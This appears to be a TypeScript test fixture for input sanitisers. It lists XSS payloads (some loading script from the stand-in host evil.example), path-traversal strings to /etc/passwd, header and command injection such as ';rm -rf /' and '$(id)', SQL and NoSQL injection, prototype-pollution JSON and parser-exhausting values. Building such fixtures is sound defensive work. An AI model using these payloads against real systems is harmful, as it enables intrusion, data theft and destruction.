/** An element that can only come from injected text. */
export const PROBE = 'hostile-probe';

/** Texts that run a script if they are interpreted as HTML, an address or a script. */
export const hostileTexts: readonly string[] = [
  `<script>window.hostile=1</script><${PROBE}>`,
  `<p>Words</p><script src="https://evil.example/x.js"></script><${PROBE}></${PROBE}>`,
  `<p onmouseover="window.hostile=1">Words <img src=x onerror="window.hostile=1"></p>`,
  `<p><a href="javascript:window.hostile=1">a</a><a href=" jav&#x09;ascript:alert(1)">b</a></p>`,
  `<p><a href="data:text/html,<script>1</script>">c</a><a href='vbscript:x'>d</a></p>`,
  `<h2><svg onload="window.hostile=1"><script>1</script></svg><math href="javascript:1"></math></h2>`,
  `<p><iframe srcdoc="<script>1</script>"></iframe><object data="javascript:1"></object><embed src="javascript:1"></p>`,
  `<p><style>@import 'https://evil.example'</style><form action="javascript:1"><button formaction="javascript:1">`,
  `<p/><noscript><p title="</noscript><img src=x onerror=1>"></noscript>`,
  `<blockquote><!--><img src=x onerror=1>--><template><img src=x onerror=1></template></blockquote>`,
  `"><${PROBE} onclick="window.hostile=1">`,
  `'><img src=x onerror='window.hostile=1'><${PROBE}>`,
  `</script><${PROBE}><script>window.hostile=1</script>`,
  `</title></textarea></style><${PROBE}>`,
  `<!--${'<'}/script --><${PROBE}>`,
  `]]><${PROBE}>`,
  'javascript:window.hostile=1',
  ' JaVaScRiPt:window.hostile=1',
  'java\tscript\n:window.hostile=1',
  '\u0001javascript:window.hostile=1',
  'data:text/html,<script>window.hostile=1</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  '/\\evil.example',
  'url(javascript:1);background:url(//evil.example)',
  'red;}</style><script>1</script>',
  '\u2028\u2029</script>',
  '{{constructor.constructor("return 1")()}}',
  '${window.hostile=1}',
];

/** Texts that redirect or escape if they are interpreted as a path, a header or a name. */
export const pathTricks: readonly string[] = [
  '../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  'a\0b',
  '%00',
  'a\r\nSet-Cookie: hostile=1',
  '%0d%0aSet-Cookie:%20hostile=1',
  'a\u2028b\u2029c',
  '\uff0e\uff0e\uff0fetc',
  '\ud800',
  '%',
  '%zz',
  '%c0%ae%c0%ae/',
  '.',
  '..',
  'con',
  '~',
  'api/../../x',
  '?x=1#y',
  ';rm -rf /',
  "' OR 1=1 --",
  '$(id)',
  '__proto__',
  'constructor',
  'toString',
];

/** This is parsed, because only JSON.parse creates an own property with this name. */
const withProto: unknown = JSON.parse(
  '{"__proto__":{"admin":true,"status":"admin"},"constructor":{"prototype":{"a":1}}}',
);

const nested = (levels: number, wrap: (inner: unknown) => unknown): unknown => {
  let value: unknown = 'deep';
  for (let level = 0; level < levels; level++) value = wrap(value);
  return value;
};

/** Values of wrong types. */
export const hostileValues: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  -0,
  2 ** 53,
  '',
  ' ',
  'x'.repeat(300),
  'x'.repeat(200_000),
  '\ud83d'.repeat(1000),
  'x\ud800y',
  { 'x\udc00y': 1 },
  `<p>${'<x>'.repeat(60_000)}`,
  `<p>${'<p>'.repeat(60_000)}`,
  `<ul>${'<ul><li>'.repeat(20_000)}`,
  [],
  [[]],
  [null],
  {},
  { $gt: '' },
  { $ne: null },
  { $where: 'while(true){}' },
  { $regex: '^(a+)+$' },
  { in: [null] },
  { length: 1e9 },
  { toString: 'no function', valueOf: null },
  { then: 'no promise' },
  withProto,
  nested(1000, (inner) => [inner]),
  nested(1000, (inner) => ({ contents: [inner] })),
  Array.from({ length: 2000 }, (_, n) => ({ key: 'same', componentType: 'Text', n })),
  Object.fromEntries(Array.from({ length: 2000 }, (_, n) => [`field${n}`, n])),
  ...hostileTexts,
  ...pathTricks,
];
